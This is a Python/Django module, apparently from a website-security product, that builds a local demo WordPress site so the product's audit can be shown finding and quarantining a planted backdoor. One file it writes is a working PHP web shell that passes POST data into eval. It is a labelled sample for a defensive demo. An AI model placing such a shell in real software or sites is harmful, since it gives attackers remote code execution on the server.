"""The demo's local node: one plan site with files on this machine, so `xuala run` shows an
audit end to end (console → WSA → Audit now; a planted backdoor is found and quarantined)."""

from __future__ import annotations

from pathlib import Path

from django.conf import settings

from xuala.customers.models import Site
from xuala.nodes.services import node_mark_local, site_attach

FILES = {
    "index.php": "<?php\ndefine('WP_USE_THEMES', true);\n",
    "wp-includes/version.php": "<?php\n$wp_version = '6.1.9';\n",
    "wp-content/index.php": "<?php\n// Silence is golden.\n",
    # A planted backdoor for the demo: request data into eval, as real shells do.
    "wp-content/uploads/2026/03/cache.php": "<?php\nif (isset($_POST['k'])) "
                                            "{ eval(stripslashes($_POST['k'])); }\n",
}


def demo_node(*, site: Site) -> Path:
    """Write the demo site's tree under the data directory, attach it, mark its server local."""
    root = Path(settings.DATA_DIR) / "demo-sites" / f"site-{site.pk}"
    for rel, text in FILES.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    site_attach(site=site, root=str(root))
    node_mark_local(server=site.server)
    return root
